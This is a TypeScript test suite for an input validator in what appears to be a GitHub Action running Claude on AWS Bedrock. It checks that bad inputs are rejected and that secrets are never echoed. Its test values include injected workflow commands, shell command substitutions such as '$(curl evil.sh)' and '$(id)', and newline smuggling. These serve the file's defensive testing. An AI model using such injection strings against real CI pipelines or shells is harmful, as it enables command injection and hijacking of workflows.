import { declaredInputs } from '../emulator/runner/runAction.ts'
import { LONG_TERM_API_KEY } from '../__fixtures__/secrets.js'
import { InputError } from '../src/inputs/inputError.js'
import { readConfig } from '../src/inputs/readConfig.js'

/** A real-shaped key: the suite checks that no message ever repeats it. */
const API_KEY = LONG_TERM_API_KEY
const PROFILE = 'us.anthropic.claude-sonnet-4-5-20250929-v1:0'
const HUGE = 'x'.repeat(100_000)

interface BadCase {
  readonly title: string
  /** Inputs on top of `aws-region: us-east-1`. */
  readonly inputs: Readonly<Record<string, string>>
  readonly env?: NodeJS.ProcessEnv
  /** The input the error names. */
  readonly input: string
  /** Parts the message must contain: the problem and the accepted form. */
  readonly expected: readonly string[]
}

const cases: readonly BadCase[] = [
  // aws-region
  {
    title: 'region with an injected workflow command',
    inputs: { 'aws-region': 'us-east-1\n::set-env name=X::y' },
    input: 'aws-region',
    expected: ['U+000A at position 10', 'region code such as us-east-1']
  },
  {
    title: 'region with an encoded newline',
    inputs: { 'aws-region': 'us-east-1%0A' },
    input: 'aws-region',
    expected: ['got "us-east-1%0A"', 'region code such as us-east-1']
  },
  {
    title: 'region with a command substitution',
    inputs: { 'aws-region': '$(curl evil.sh)' },
    input: 'aws-region',
    expected: ['got "$(curl evil.sh)"', 'region code']
  },
  {
    title: 'region with U+2010 hyphens',
    inputs: { 'aws-region': 'us\u2010east\u20101' },
    input: 'aws-region',
    expected: ['non-ASCII character U+2010 at position 3', 'got "us\\u2010east\\u20101"']
  },
  {
    title: 'region in upper case',
    inputs: { 'aws-region': 'US-EAST-1' },
    input: 'aws-region',
    expected: ['region codes are lowercase']
  },
  {
    title: 'region without its number',
    inputs: { 'aws-region': 'us-east' },
    input: 'aws-region',
    expected: ['got "us-east"', 'such as us-east-1']
  },
  {
    title: 'ISO region',
    inputs: { 'aws-region': 'us-iso-east-1' },
    input: 'aws-region',
    expected: ['ISO', 'aws, aws-cn or aws-us-gov partition']
  },
  {
    title: 'region of 100 kB',
    inputs: { 'aws-region': HUGE },
    input: 'aws-region',
    expected: ['100000 characters', 'over the limit of 2048']
  },
  {
    title: 'no region anywhere',
    inputs: { 'aws-region': '' },
    input: 'aws-region',
    expected: ['got nothing', 'env AWS_REGION or AWS_DEFAULT_REGION']
  },
  {
    title: 'bad region from env',
    inputs: { 'aws-region': '' },
    env: { AWS_REGION: 'us east 1' },
    input: 'aws-region',
    expected: ['(taken from env AWS_REGION)', 'got "us east 1"']
  },
  // role-to-assume
  {
    title: 'bare role name',
    inputs: { 'role-to-assume': 'claude-code' },
    input: 'role-to-assume',
    expected: ['a bare role name', 'arn:aws:iam::ACCOUNT-ID:role/NAME']
  },
  {
    title: 'IAM user ARN',
    inputs: { 'role-to-assume': 'arn:aws:iam::123456789012:user/ci' },
    input: 'role-to-assume',
    expected: ['an IAM user ARN, not a role']
  },
  {
    title: 'STS assumed-role ARN',
    inputs: { 'role-to-assume': 'arn:aws:sts::123456789012:assumed-role/ci/run-1' },
    input: 'role-to-assume',
    expected: ['assumed-role (session) ARN', 'ARN of the role itself']
  },
  {
    title: 'Bedrock ARN as role',
    inputs: {
      'role-to-assume': `arn:aws:bedrock:us-east-1:123456789012:inference-profile/${PROFILE}`
    },
    input: 'role-to-assume',
    expected: ['a bedrock ARN, not an IAM role']
  },
  {
    title: 'short account id in role ARN',
    inputs: { 'role-to-assume': 'arn:aws:iam::12345:role/ci' },
    input: 'role-to-assume',
    expected: ['account id must be 12 digits']
  },
  {
    title: 'GovCloud role with a commercial region',
    inputs: { 'role-to-assume': 'arn:aws-us-gov:iam::123456789012:role/ci' },
    input: 'role-to-assume',
    expected: [
      'partition aws-us-gov, but aws-region us-east-1 is in partition aws',
      'arn:aws:iam::'
    ]
  },
  {
    title: 'role name with backticks',
    inputs: { 'role-to-assume': 'arn:aws:iam::123456789012:role/ci`id`' },
    input: 'role-to-assume',
    expected: ['1-64 letters, digits and + = , . @ _ -']
  },
  {
    title: 'role name of 65 characters',
    inputs: { 'role-to-assume': `arn:aws:iam::123456789012:role/${'r'.repeat(65)}` },
    input: 'role-to-assume',
    expected: ['1-64 letters']
  },
  {
    title: 'role ARN with an injected mask command',
    inputs: { 'role-to-assume': 'arn:aws:iam::123456789012:role/ci\n::add-mask::x' },
    input: 'role-to-assume',
    expected: ['U+000A', 'an IAM role ARN']
  },
  // audience
  {
    title: 'audience with a command substitution',
    inputs: { audience: 'sts.amazonaws.com$(id)' },
    input: 'audience',
    expected: ['an OIDC audience of 1-256 letters']
  },
  {
    title: 'audience with an encoded newline',
    inputs: { audience: 'sts.amazonaws.com%0A' },
    input: 'audience',
    expected: ['got "sts.amazonaws.com%0A"', 'OIDC audience']
  },
  {
    title: 'audience of 257 characters',
    inputs: { audience: 'a'.repeat(257) },
    input: 'audience',
    expected: ['257 characters', '1-256']
  },
  {
    title: 'audience with a full-width letter',
    inputs: { audience: '\uff53ts.amazonaws.com' },
    input: 'audience',
    expected: ['U+FF53 at position 1']
  },
  // role-session-name
  {
    title: 'session name with a space',
    inputs: { 'role-session-name': 'my session' },
    input: 'role-session-name',
    expected: ['not allowed: " "', 'STS role session name charset']
  },
  {
    title: 'session name of 1 character',
    inputs: { 'role-session-name': 'x' },
    input: 'role-session-name',
    expected: ['too short', '2-64 characters']
  },
  {
    title: 'session name of 65 characters',
    inputs: { 'role-session-name': 's'.repeat(65) },
    input: 'role-session-name',
    expected: ['too long', '2-64 characters']
  },
  {
    title: 'session name with shell characters',
    inputs: { 'role-session-name': 'ci/$(whoami)' },
    input: 'role-session-name',
    expected: ['not allowed: "/" "$" "(" ")"']
  },
  // role-duration-seconds
  {
    title: 'duration below the minimum',
    inputs: { 'role-duration-seconds': '90' },
    input: 'role-duration-seconds',
    expected: ['must be a whole number from 900 to 43200; got "90" (out of range).']
  },
  {
    title: 'fractional duration',
    inputs: { 'role-duration-seconds': '3600.5' },
    input: 'role-duration-seconds',
    expected: ['a whole number from 900 to 43200; got "3600.5"']
  },
  {
    title: 'duration in exponent form',
    inputs: { 'role-duration-seconds': '1e4' },
    input: 'role-duration-seconds',
    expected: ['got "1e4"']
  },
  {
    title: 'duration with trailing junk',
    inputs: { 'role-duration-seconds': ' 3600x' },
    input: 'role-duration-seconds',
    expected: ['got "3600x"']
  },
  {
    title: 'negative duration',
    inputs: { 'role-duration-seconds': '-3600' },
    input: 'role-duration-seconds',
    expected: ['got "-3600"']
  },
  {
    title: 'huge duration',
    inputs: { 'role-duration-seconds': '99999999999999999999' },
    input: 'role-duration-seconds',
    expected: ['out of range']
  },
  {
    title: 'duration in full-width digits',
    inputs: { 'role-duration-seconds': '\uff13\uff16\uff10\uff10' },
    input: 'role-duration-seconds',
    expected: ['U+FF13', 'full-width digits']
  },
  // bedrock-api-key
  {
    title: 'API key with a space inside',
    inputs: { 'bedrock-api-key': `${API_KEY.slice(0, 20)} ${API_KEY.slice(20)}` },
    input: 'bedrock-api-key',
    expected: ['a hidden value', 'contains whitespace']
  },
  {
    title: 'API key too short',
    inputs: { 'bedrock-api-key': 'ABSKshort' },
    input: 'bedrock-api-key',
    expected: ['truncated or damaged', 'long-term ABSK… or short-term bedrock-api-key-…']
  },
  {
    title: 'API key with a newline',
    inputs: { 'bedrock-api-key': `${API_KEY}\n::set-env name=A::b` },
    input: 'bedrock-api-key',
    expected: ['line break or control character']
  },
  {
    title: 'API key over 8 kB',
    inputs: { 'bedrock-api-key': API_KEY.repeat(200) },
    input: 'bedrock-api-key',
    expected: ['over the limit of 8192']
  },
  // model
  {
    title: 'Amazon model',
    inputs: { model: 'amazon.nova-pro-v1:0' },
    input: 'model',
    expected: ['a model of provider amazon', 'needs a Claude model']
  },
  {
    title: 'Meta model',
    inputs: { model: 'meta.llama3-1-70b-instruct-v1:0' },
    input: 'model',
    expected: ['a model of provider meta', 'needs a Claude model']
  },
  {
    title: 'unknown profile prefix',
    inputs: { model: `uk.${PROFILE.slice(3)}` },
    input: 'model',
    expected: ['unknown prefix "uk"', 'global, us, eu, apac, jp, au, us-gov']
  },
  {
    title: 'provisioned-model ARN',
    inputs: { model: 'arn:aws:bedrock:us-east-1:123456789012:provisioned-model/abc123' },
    input: 'model',
    expected: [
      'a Bedrock provisioned-model ARN',
      'inference-profile, application-inference-profile and foundation-model ARNs'
    ]
  },
  {
    title: 'custom-model ARN',
    inputs: { model: 'arn:aws:bedrock:us-east-1:123456789012:custom-model/x/y' },
    input: 'model',
    expected: ['a Bedrock custom-model ARN']
  },
  {
    title: 'IAM role ARN as model',
    inputs: { model: 'arn:aws:iam::123456789012:role/ci' },
    input: 'model',
    expected: ['an iam ARN, not a Bedrock model']
  },
  {
    title: 'China model ARN with a commercial region',
    inputs: {
      model:
        'arn:aws-cn:bedrock:cn-north-1::foundation-model/anthropic.claude-3-haiku-20240307-v1:0'
    },
    input: 'model',
    expected: ['partition aws-cn, but aws-region us-east-1 is in partition aws']
  },
  {
    title: 'model alias with backticks',
    inputs: { model: 'sonnet`id`' },
    input: 'model',
    expected: ['got "sonnet`id`"', 'an alias (opus, sonnet, haiku)']
  },
  {
    title: 'model alias with a version',
    inputs: { model: 'sonnet-4-5' },
    input: 'model',
    expected: ['one family word']
  },
  {
    title: 'us-gov profile outside GovCloud',
    inputs: { model: `us-gov.${PROFILE.slice(3)}` },
    input: 'model',
    expected: ['us-gov profiles exist only in GovCloud']
  },
  {
    title: 'model of 100 kB',
    inputs: { model: HUGE },
    input: 'model',
    expected: ['100000 characters', 'over the limit of 2048']
  },
  // small-fast-model and its region
  {
    title: 'small model with an injected command',
    inputs: { 'small-fast-model': 'haiku\n::stop-commands::x' },
    input: 'small-fast-model',
    expected: ['U+000A at position 6']
  },
  {
    title: 'small model of another provider via a profile',
    inputs: { 'small-fast-model': 'us.amazon.nova-micro-v1:0' },
    input: 'small-fast-model',
    expected: ['a model of provider amazon']
  },
  {
    title: 'small-model region in another partition',
    inputs: { 'small-fast-model-region': 'us-gov-west-1' },
    input: 'small-fast-model-region',
    expected: ['a region in partition aws', 'partition aws-us-gov']
  },
  {
    title: 'small-model region with U+2010',
    inputs: { 'small-fast-model-region': 'eu\u2010west\u20101' },
    input: 'small-fast-model-region',
    expected: ['U+2010']
  },
  // inference-profile-prefix
  {
    title: 'unknown prefix',
    inputs: { 'inference-profile-prefix': 'uk' },
    input: 'inference-profile-prefix',
    expected: ['auto or one of global, us, eu, apac, jp, au, us-gov']
  },
  {
    title: 'us-gov prefix in a commercial region',
    inputs: { 'inference-profile-prefix': 'us-gov' },
    input: 'inference-profile-prefix',
    expected: [
      'only in GovCloud',
      'a prefix available in aws-region us-east-1',
      'or an `aws-region` where us-gov profiles exist'
    ]
  },
  {
    title: 'commercial prefix in GovCloud',
    inputs: { 'aws-region': 'us-gov-west-1', 'inference-profile-prefix': 'US' },
    input: 'inference-profile-prefix',
    expected: ['has only us-gov profiles', 'set `inference-profile-prefix: auto`']
  },
  // verify and booleans
  {
    title: 'verify yes',
    inputs: { verify: 'yes' },
    input: 'verify',
    expected: ['one of invoke, access, none (any case); got "yes"']
  },
  {
    title: 'fail-on-error yes',
    inputs: { 'fail-on-error': 'yes' },
    input: 'fail-on-error',
    expected: ['true or false (any case); got "yes"']
  },
  {
    title: 'disable-prompt-caching 1',
    inputs: { 'disable-prompt-caching': '1' },
    input: 'disable-prompt-caching',
    expected: ['true or false']
  },
  {
    title: 'export-credentials on',
    inputs: { 'export-credentials': 'on' },
    input: 'export-credentials',
    expected: ['true or false']
  },
  {
    title: 'output-credentials with an injected command',
    inputs: { 'output-credentials': 'true\n::set-output name=x::y' },
    input: 'output-credentials',
    expected: ['U+000A', 'true or false']
  },
  {
    title: 'mask-aws-account-id TRUE!',
    inputs: { 'mask-aws-account-id': 'TRUE!' },
    input: 'mask-aws-account-id',
    expected: ['true or false']
  },
  {
    title: 'job-summary command substitution',
    inputs: { 'job-summary': '$(false)' },
    input: 'job-summary',
    expected: ['got "$(false)"']
  },
  // allowed-account-ids
  {
    title: 'account id of 11 digits',
    inputs: { 'allowed-account-ids': '12345678901' },
    input: 'allowed-account-ids',
    expected: ['not 12 digits: "12345678901"']
  },
  {
    title: 'account ids split by semicolons',
    inputs: { 'allowed-account-ids': '123456789012;210987654321' },
    input: 'allowed-account-ids',
    expected: ['comma-separated 12-digit AWS account ids']
  },
  {
    title: 'account id in full-width digits',
    inputs: { 'allowed-account-ids': '\uff11'.repeat(12) },
    input: 'allowed-account-ids',
    expected: ['U+FF11']
  },
  // token limits: the contract's forms (a positive integer; an integer ≥ 0); what Bedrock refuses
  // for a model is a warning on its output-limit row (checks.outputLimit.test.ts)
  {
    title: 'zero output tokens',
    inputs: { 'max-output-tokens': '0' },
    input: 'max-output-tokens',
    expected: ['a whole number of 1 or more', 'out of range']
  },
  {
    title: 'fractional output tokens',
    inputs: { 'max-output-tokens': '1.5' },
    input: 'max-output-tokens',
    expected: ['got "1.5"']
  },
  {
    title: 'negative thinking tokens',
    inputs: { 'max-thinking-tokens': '-1' },
    input: 'max-thinking-tokens',
    expected: ['0 (thinking off) or a whole number of tokens']
  },
  {
    title: 'thinking tokens beyond a safe integer',
    inputs: { 'max-thinking-tokens': '9'.repeat(20) },
    input: 'max-thinking-tokens',
    expected: ['out of range']
  },
  // endpoints
  {
    title: 'plain http to a remote host',
    inputs: { 'sts-endpoint': 'http://sts.example.com' },
    input: 'sts-endpoint',
    expected: ['http:// to a non-loopback host', 'the local emulator']
  },
  {
    title: 'endpoint with credentials',
    inputs: { 'bedrock-endpoint': 'https://user:s3cret@bedrock.example.com' },
    input: 'bedrock-endpoint',
    expected: ['contains credentials', 'got "https://***@bedrock.example.com"']
  },
  {
    title: 'endpoint with a query',
    inputs: { 'bedrock-runtime-endpoint': 'https://rt.example.com/?a=b' },
    input: 'bedrock-runtime-endpoint',
    expected: ['contains a query or fragment']
  },
  {
    title: 'endpoint with another scheme',
    inputs: { 'sts-endpoint': 'ftp://sts.example.com' },
    input: 'sts-endpoint',
    expected: ['scheme ftp:']
  },
  {
    title: 'endpoint without a scheme',
    inputs: { 'bedrock-endpoint': 'bedrock.us-east-1.amazonaws.com' },
    input: 'bedrock-endpoint',
    expected: ['not an absolute URL']
  },
  {
    title: 'endpoint with a command substitution',
    inputs: { 'bedrock-runtime-endpoint': 'https://rt.example.com/$(id)' },
    input: 'bedrock-runtime-endpoint',
    expected: ['contains "$"']
  },
  {
    title: 'endpoint with backticks',
    inputs: { 'sts-endpoint': 'https://sts.example.com/`id`' },
    input: 'sts-endpoint',
    expected: ['contains "`"']
  },
  {
    title: 'endpoint with an encoded newline first',
    inputs: { 'sts-endpoint': '%0Ahttps://sts.example.com' },
    input: 'sts-endpoint',
    expected: ['not an absolute URL']
  },
  // actor check
  {
    title: 'required permission that is no repository role',
    inputs: { 'require-actor-permission': 'push' },
    input: 'require-actor-permission',
    expected: ['got "push"', 'admin, maintain, write, triage, read, or none']
  },
  {
    title: 'allowed bot without [bot]',
    inputs: { 'allowed-bots': 'dependabot' },
    input: 'allowed-bots',
    expected: ['not a bot login: "dependabot"', 'ending in [bot]']
  },
  {
    title: 'allowed bots with a wildcard',
    inputs: { 'allowed-bots': 'renovate[bot], *[bot]' },
    input: 'allowed-bots',
    expected: ['not a bot login: "*[bot]"']
  },
  {
    title: 'github token with a line break',
    inputs: { 'github-token': 'ghs_abc\nghs_def' },
    input: 'github-token',
    expected: ['github-token']
  },
  {
    title: 'scrub switch that is no boolean',
    inputs: { 'scrub-agent-credentials': 'always' },
    input: 'scrub-agent-credentials',
    expected: ['got "always"', 'true or false']
  }
]

function readWith(inputs: Readonly<Record<string, string>>, env: NodeJS.ProcessEnv = {}) {
  const all: Record<string, string> = { 'aws-region': 'us-east-1', ...inputs }
  return () => readConfig((name) => all[name] ?? '', env)
}

function thrownBy(read: () => unknown): InputError {
  try {
    read()
  } catch (error) {
    if (error instanceof InputError) return error
    throw error
  }
  throw new Error('readConfig accepted a bad input')
}

describe('readConfig rejects bad inputs before any network call', () => {
  it.each(cases.map((c) => [c.title, c]))('%s', (_title, c) => {
    const error = thrownBy(readWith(c.inputs, c.env))
    expect(error.input).toBe(c.input)
    expect(error.problems).toHaveLength(1)
    expect(error.message).toMatch(new RegExp(`^Input '${c.input}'`))
    for (const part of c.expected) expect(error.message).toContain(part)
    // One line, bounded: nothing injected into the log, no huge value repeated, no secret.
    expect(error.message).not.toContain('\n')
    expect(error.message.length).toBeLessThan(700)
    expect(error.message).not.toContain(API_KEY)
    expect(error.message).not.toContain('s3cret')
  })

  // Every input action.yml declares, not only the ones listed above: a line break (the start of an
  // injected workflow command) is refused, naming that input.
  it.each(declaredInputs())('a line break in %s is refused naming it', (input) => {
    const error = thrownBy(readWith({ [input]: 'true\n::set-env name=X::y' }))
    expect(error.problems.map((problem) => problem.input)).toContain(input)
    // Quoted with the line break escaped: no line of the message can start a workflow command.
    expect(error.message).not.toMatch(/^::/m)
  })

  it('lists every problem at once, one per line, without the API key', () => {
    const error = thrownBy(
      readWith({
        'aws-region': 'us-east-1\n',
        'role-to-assume': 'claude-code',
        'bedrock-api-key': API_KEY,
        verify: 'all',
        'job-summary': 'yes',
        'role-duration-seconds': '90'
      })
    )
    expect(error.message.split('\n')).toEqual([
      '4 inputs are invalid:',
      expect.stringMatching(/^- Input 'role-to-assume' /),
      expect.stringMatching(/^- Input 'role-duration-seconds' /),
      expect.stringMatching(/^- Input 'verify' /),
      expect.stringMatching(/^- Input 'job-summary' /)
    ])
    expect(error.input).toBe('role-to-assume, role-duration-seconds, verify, job-summary')
    expect(error.problems.map((p) => p.input)).toEqual(error.input.split(', '))
    expect(error.message).not.toContain(API_KEY)
  })

  it('skips the partition checks that depend on a region that is itself bad', () => {
    const error = thrownBy(
      readWith({
        'aws-region': 'nowhere',
        'role-to-assume': 'arn:aws-cn:iam::123456789012:role/ci'
      })
    )
    expect(error.problems.map((p) => p.input)).toEqual(['aws-region'])
  })

  it('never repeats any part of a bad API key', () => {
    const key = `${API_KEY}\u00e9`
    const error = thrownBy(readWith({ 'bedrock-api-key': key }))
    expect(error.message).toContain('non-ASCII character')
    expect(error.message).not.toContain(API_KEY.slice(0, 8))
    expect(error.message).not.toContain('U+00E9')
  })
})
